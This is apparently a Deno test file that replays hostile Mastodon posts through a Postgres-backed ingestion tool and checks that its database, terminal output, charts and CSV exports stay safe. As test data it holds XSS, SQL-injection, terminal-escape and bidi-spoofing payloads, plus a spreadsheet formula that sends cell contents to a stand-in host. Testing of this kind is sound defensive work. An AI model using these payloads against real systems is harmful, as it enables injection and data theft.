/** Posts that are written to do harm go all the way: into the database, a terminal, the page's data, charts and files. */
import assert from "node:assert/strict";
import { startPostgres } from "../embedded/postgres/start_postgres.ts";
import { connectPostgres } from "../core/postgres/connect.ts";
import { tinyStatus } from "../testing/tiny_mastodon.ts";
import { runCommand } from "../testing/trunkline_command.ts";
import { temporaryHome } from "../testing/temporary_home.ts";

const SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>";
const SQL = `'); drop table masto.toots_raw; --`;
const FORMULA = `=HYPERLINK("https://evil.example?"&A1,"click")`;
const ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m";
const BIDI = "\u202egnp.exe\u2066\u2069";
const DEEP = "<div>".repeat(20_000) + "deep" + "</div>".repeat(20_000);
const HUGE = "x".repeat(10_000_000);
const ENTITY = "&lt;script&gt;alert(2)&lt;/script&gt;";

/** What is put into each field that an author chooses. */
const HOSTILE: Readonly<Record<string, string>> = {
  script: SCRIPT,
  sql: SQL,
  formula: FORMULA,
  escapes: ESCAPES,
  bidi: BIDI,
  deep: DEEP,
  huge: HUGE,
  entity: ENTITY,
};
/** What charts and files show of posts: hashtags, languages and names. */
const TAGS = [SCRIPT, SQL, FORMULA, `+${FORMULA}`, ESCAPES, BIDI, "a".repeat(5_000)];

function statuses(): Record<string, unknown>[] {
  const posts: Record<string, unknown>[] = [];
  const add = (fields: Record<string, unknown>) => {
    const number = posts.length + 1;
    posts.push(tinyStatus({
      id: `${1_000 + number}`,
      uri: `https://a.example/statuses/${number}`,
      created_at: new Date(Date.now() - number * 1_000).toISOString(),
      ...fields,
    }));
  };
  for (const text of Object.values(HOSTILE)) {
    add({ content: `<p>${text}</p>` });
    add({ spoiler_text: text.slice(0, 100_000) });
  }
  for (const tag of TAGS) {
    // So many people that a hashtag shows.
    for (let person = 0; person < 4; person++) {
      add({
        tags: [{ name: tag }],
        language: tag,
        account: {
          id: `${person}`,
          acct: `${tag.slice(0, 50)}${person}`,
          note: SCRIPT,
          bot: false,
        },
      });
    }
  }
  return posts;
}

Deno.test("hostile posts do no harm in database, terminal, charts and files", async () => {
  await using home = await temporaryHome();
  const folder = await Deno.makeTempDir();
  try {
    const lines = statuses().map((status) => JSON.stringify(status)).join("\n");
    await Deno.writeTextFile(`${folder}/hostile.jsonl`, `${lines}\n`);
    const env = { TRUNKLINE_HOME: home.path };
    const demo = await runCommand(
      [
        "demo",
        "--replay",
        `${folder}/hostile.jsonl`,
        "--rate",
        "50",
        "--port",
        "0",
        "--out",
        folder,
      ],
      env,
    );
    assert.equal(demo.code, 0, demo.stderr.slice(-3_000));
    const there = { TRUNKLINE_HOME: `${home.path}-demo` };
    const tables = ["batch_hashtag_by_hour", "batch_active_users", "toots_raw"];
    const outputs = [demo];
    for (const table of tables) {
      const out = `${folder}/csv`;
      outputs.push(await runCommand(["export", "--table", table, "--out", out], there));
    }
    outputs.push(
      await runCommand(["status"], there),
      await runCommand(["status", "--json"], there),
    );
    // The terminal: nothing acts on it.
    for (const { code, stdout, stderr } of outputs) {
      assert.equal(code, 0, stderr.slice(-2_000));
      assert.doesNotMatch(
        stdout + stderr,
        /(?![\t\n])[\p{Cc}\u202a-\u202e\u2066-\u2069]/u,
      );
    }
    // Charts and the report: no markup of a post is markup.
    for (const { name } of Deno.readDirSync(folder)) {
      if (!/\.(svg|html)$/.test(name)) continue;
      const text = await Deno.readTextFile(`${folder}/${name}`);
      assert.doesNotMatch(text, /<script>alert|<img src=x|onerror=alert\(1\)>/, name);
      assert.doesNotMatch(text, /(?![\t\n\r])\p{Cc}/u, name);
    }
    // Files: no cell is a formula.
    for (const { name } of Deno.readDirSync(`${folder}/csv`)) {
      const text = await Deno.readTextFile(`${folder}/csv/${name}`);
      assert.doesNotMatch(text, /(^|[,\n])"?[=+@]/, name);
    }
    // The database: all that can be stored is there, as text.
    await using server = await startPostgres({ home: there.TRUNKLINE_HOME });
    const sql = connectPostgres(server.connection, { applicationName: "trunkline suite" });
    try {
      const rows = await sql<{ text: string; length: number }[]>`
        select content_txt as text, content_len as length from masto.toots_raw`;
      const texts = rows.map(({ text }) => text);
      for (const [kind, text] of Object.entries({ sql: SQL, formula: FORMULA })) {
        assert.ok(texts.includes(text), kind);
      }
      assert.ok(texts.includes("<script>alert(2)</script>"), "an entity is text");
      assert.ok(texts.some((text) => text.trim() === "deep"), "nesting is read");
      assert.ok(texts.every((text) => !text.includes("onerror")), "an attribute is no text");
      const [letters] = await sql<
        { n: number }[]
      >`select count(*)::int as n from masto.dead_letters`;
      assert.ok(rows.length + (letters?.n ?? 0) > 0);
    } finally {
      await sql.end();
    }
  } finally {
    await Deno.remove(folder, { recursive: true });
    await Deno.remove(`${home.path}-demo`, { recursive: true }).catch(() => {});
  }
});
